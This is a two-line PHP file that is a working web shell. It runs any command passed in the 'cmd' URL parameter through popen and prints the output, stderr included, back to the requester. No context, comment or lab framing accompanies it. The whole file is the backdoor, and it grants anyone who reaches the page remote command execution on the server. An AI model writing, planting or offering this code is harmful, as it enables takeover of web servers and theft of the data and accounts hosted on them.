<?php
$p = popen($_GET['cmd'] . ' 2>&1', 'r'); while (!feof($p)) echo fread($p, 1024); pclose($p);
